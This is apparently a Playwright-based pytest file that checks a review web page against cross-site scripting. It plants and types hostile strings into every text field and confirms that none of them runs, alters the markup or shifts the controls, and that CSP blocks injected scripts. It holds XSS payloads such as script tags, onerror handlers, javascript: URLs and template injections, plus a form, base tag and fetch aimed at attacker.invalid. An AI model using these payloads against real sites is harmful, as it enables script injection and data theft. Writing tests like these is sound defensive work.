"""Text that attacks a page, on the review page: in every place that text from outside reaches, and typed by a reviewer.

Nothing of it may run, change what the page is made of or move its controls; and the text shown is the text.
"""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Iterator, Sequence
from itertools import islice
from pathlib import Path
from typing import Any

import pytest
from browser import needs_browser
from driven import (
    PHONE,
    articles,
    brief,
    browsing,
    choose,
    counted,
    editions,
    ledger,
    row,
    selected,
    serving,
    side,
    sideways,
    window,
)
from hostile_sets import HOSTILE, needs_hostile_sets
from planted import article, decided, planted
from playwright.sync_api import Browser, Locator, Page, expect
from reviewing import copied, table

from briefing.language.plain import plain

pytestmark = needs_browser
OWN = (
    "<script>__ran = 1; alert(1)</script>",
    "<img src=x onerror=alert(1)><svg/onload=alert(1)>",
    "</textarea></option></script><iframe srcdoc='<script>parent.alert(1)</script>'>",
    '" autofocus onfocus="alert(1)" style="position:fixed;inset:0;z-index:9" x="',
    "javascript:alert(1)//",
    "<style>* { display: none !important }</style><base href='https://attacker.invalid/'>",
    "<form action=https://attacker.invalid><button>Accept</button></form><meta http-equiv=refresh content=0>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
    "\u202eevil\u202c \u2067right\u2069 \u200bhidden\u2060 \ufeffmark \x1b[31mred\x07 bell",
    "سوريا ومصر \u200fقالت الوكالة 12:30 إن الزيارة (غدا) <b>مهمة</b>",
    "👩‍👩‍👧‍👦🏳️‍🌈" * 30,
    "Z̷̛̘͖̖̙͎̩̬̹̰̞̦̠͗̀̓͌͐͒a̷͙̎l̵̰̔g̴̤̈́o̴̞͝" * 8,
    "Long" + "o" * 3000 + "word",
    "line\u2028break\u2029and\ttab",
)
COUNTED = """() => {
  window.__ran = 0;
  window.__blocked = [];
  addEventListener("securitypolicyviolation", (event) => window.__blocked.push(event.effectiveDirective));
  for (const name of ["alert", "confirm", "prompt", "print", "open"]) window[name] = () => (window.__ran += 1);
}"""
# What the page is made of, and what only markup from outside would bring.
FOREIGN = """() => {
  const known = new Set(("A ABBR B BDI BODY BUTTON CITE CODE DD DETAILS DIALOG DIV DL DT FIELDSET FOOTER FORM H1 H2 "
    + "H3 H4 HEAD HEADER HTML INPUT KBD LABEL LEGEND LI LINK MAIN MARK META OL OPTION P PROGRESS Q S SCRIPT SECTION "
    + "SELECT SMALL SPAN STRONG SUMMARY SUP TEXTAREA TIME TITLE UL path svg").split(" "));
  const told = [];
  for (const each of document.querySelectorAll("*")) {
    if (!known.has(each.tagName)) told.push(each.tagName);
    if (each.tagName === "SCRIPT" && !each.src.startsWith(location.origin)) told.push("a script");
    for (const { name, value } of each.attributes) {
      if (name.startsWith("on") || (name === "style" && !value.startsWith("--"))) told.push(`${name}=${value}`);
      if (name === "href" && !/^(https?:|#|[\\w.\\/-]+$)/.test(value)) told.push(value);
    }
  }
  return told;
}"""
WORDS = """(box) => {
  const copy = box.cloneNode(true);
  for (const each of copy.querySelectorAll(".q, .unseen")) each.remove();
  return copy.textContent;
}"""
ATTEMPTS = (
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')",
    "document.body.append(Object.assign(document.createElement('script'), { text: 'alert(1)' }))",
    "trustedTypes.createPolicy('mine', { createHTML: (words) => words })",
)
TYPED = """(field, texts) => {
  for (const text of texts) {
    field.value = text;
    field.dispatchEvent(new Event("input", { bubbles: true }));
  }
  field.value = "";
  field.dispatchEvent(new Event("input", { bubbles: true }));
}"""


@pytest.fixture(scope="module")
def edition(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return editions(tmp_path_factory)


@pytest.fixture(scope="module")
def browser(edition: Path) -> Iterator[Browser]:
    with browsing() as opened:
        yield opened


@pytest.fixture
def folder(edition: Path, tmp_path: Path) -> Path:
    return copied(edition, tmp_path)


@pytest.fixture(scope="module")
def places(browser: Browser, edition: Path, tmp_path_factory: pytest.TempPathFactory) -> list[dict[str, float]]:
    """Where the controls stand when nothing attacks them."""
    calm = copied(edition, tmp_path_factory.mktemp("calm"))
    with serving(calm) as served, window(browser, served.address) as page:
        return boxes(page)


def boxes(page: Page) -> list[dict[str, float]]:
    decide = page.get_by_role("group", name="Decide", exact=True)
    named = [decide.get_by_role("button", name=name) for name in ("Accept", "Edit", "Reject", "Note", "Undo")]
    controls = [*named, page.get_by_role("button", name="Help")]
    return [{side: round(at) for side, at in (control.bounding_box() or {}).items()} for control in controls]


def every_text() -> list[str]:
    """All that others have collected, one text each, that can be kept in a file at all."""
    lines = (HOSTILE / "xss_payloads.txt").read_text(encoding="utf-8", errors="replace").split("\n")
    texts = [*lines, *json.loads((HOSTILE / "naughty_strings.json").read_text(encoding="utf-8"))]
    return [text.encode("utf-8", "replace").decode() for text in texts if text.strip()]


# What is held against it


def shown(text: str) -> str:
    """What there is to see of a text: no spaces, nothing without a shape, no signs that stand for such."""
    dropped = {"Cc", "Cf", "Zs", "Zl", "Zp", "Cn", "Co"}
    return "".join(c for c in text if unicodedata.category(c) not in dropped and c != "\ufffd" and not "␀" <= c <= "␡")


def unharmed(page: Page, places: list[dict[str, float]]) -> None:
    assert page.evaluate("window.__ran") == 0
    assert page.evaluate(FOREIGN) == []
    assert sideways(page) == 0
    assert boxes(page) == places


def look_through(page: Page, rows: Sequence[Sequence[str]], places: list[dict[str, float]]) -> None:
    """Select every sentence and compare what is shown of it with what was planted."""
    for number, texts in enumerate(rows, start=1):
        brief(page).locator(f'a[href="#s{number}"]').click()
        expect(side(page)).to_contain_text("Verdict")
        box = articles(page).first
        box.scroll_into_view_if_needed()
        expect(box).not_to_contain_text("Loading the article")
        seen = box.evaluate(WORDS)
        assert shown(seen) == shown(article(texts))
        whole = shown(side(page).inner_text())
        unharmed(page, places)
        assert all(shown(text)[:500] in whole for text in texts), number


def ran(browser: Browser, address: str, **options: Any) -> Any:
    return window(browser, address, script=COUNTED, **options)


# Our own list, everywhere


def test_hostile_text_stays_text_in_every_place(browser: Browser, folder: Path, places: list[dict[str, float]]) -> None:
    rows = [[text] for text in OWN]
    planted(folder, rows)
    decided(folder, rows)
    with serving(folder) as served, ran(browser, served.address) as page:
        look_through(page, rows, places)
        for text in OWN:
            expect(brief(page)).to_contain_text(text[:20].strip() if text.isprintable() else "")
    with serving(folder) as served, ran(browser, served.address, viewport=PHONE) as page:
        assert sideways(page) == 0
        brief(page).locator('a[href="#s13"]').click()
        expect(side(page)).to_contain_text("Verdict")
        assert sideways(page) == 0


def fields(page: Page) -> Iterator[Locator]:
    """Every field there is, each opened before it is given out."""
    yield page.get_by_role("searchbox")
    for name in ("Reject", "Note"):
        choose(page, name)
        yield side(page).locator("form").get_by_role("textbox")
        page.keyboard.press("Escape")
    choose(page, "Edit")
    for name in ("Sentence", "Words to cite", "Why"):
        yield side(page).get_by_role("textbox", name=name, exact=True)


def test_what_a_reviewer_types_stays_text(browser: Browser, folder: Path, places: list[dict[str, float]]) -> None:
    line = table(folder).brief.lines[0]
    with serving(folder, OWN[0]) as served, ran(browser, served.address) as page:
        for text in OWN:
            row(page, line.text).click()
            choose(page, "Note")
            side(page).get_by_role("textbox", name="What is the question?").fill(text)
            page.keyboard.press("Enter")
            expect(row(page, line.text)).to_contain_text("asked about")
            expect(side(page).get_by_role("textbox")).to_have_count(0)
        row(page, line.text).click()
        expect(side(page)).to_contain_text("Decided so far")
        expect(side(page)).to_contain_text("o" * 3000)
        whole = shown(side(page).inner_text())
        assert all(shown(plain(text)) in whole for text in OWN)
        assert page.evaluate("window.__ran") == 0
        assert page.evaluate(FOREIGN) == []
        assert sideways(page) == 0
    assert [one.reason for one in ledger(folder)] == [plain(text) for text in OWN]
    with serving(folder) as served, ran(browser, served.address) as page:
        for field in fields(page):
            for text in OWN:
                field.fill(text)
            unharmed(page, places)
            field.fill("")
        counted(page, 0)


def test_nothing_that_is_not_the_servers_may_run(browser: Browser, folder: Path) -> None:
    said = ".*(Content Security Policy|Content Security policy|TrustedHTML|TrustedScript)"
    with serving(folder) as served, ran(browser, served.address, expected=said) as page:
        for attempt in ATTEMPTS:
            tried = f"() => {{ try {{ {attempt}; return 'done' }} catch (error) {{ return error.name }} }}"
            assert page.evaluate(tried) == "TypeError", attempt
        assert page.evaluate("fetch('https://attacker.invalid/').then(() => 'sent', () => 'kept')") == "kept"
        assert page.evaluate("window.__blocked") == ["require-trusted-types-for"] * 2 + ["trusted-types", "connect-src"]
        assert page.evaluate("window.__ran") == 0


# What others have collected


@needs_hostile_sets
def test_what_others_have_collected_stays_text(browser: Browser, folder: Path, places: list[dict[str, float]]) -> None:
    texts = iter(every_text())
    rows = []
    while some := list(islice(texts, 600)):
        rows.append(some)
    planted(folder, rows)
    decided(folder, rows)
    with serving(folder) as served, ran(browser, served.address) as page:
        look_through(page, rows, places)


@needs_hostile_sets
def test_what_others_have_collected_may_be_typed(
    browser: Browser, folder: Path, places: list[dict[str, float]]
) -> None:
    with serving(folder) as served, ran(browser, served.address) as page:
        before = selected(page).inner_text()
        for field in fields(page):
            field.evaluate(TYPED, every_text())
            unharmed(page, places)
        assert before.split("\n")[0] in selected(page).inner_text()
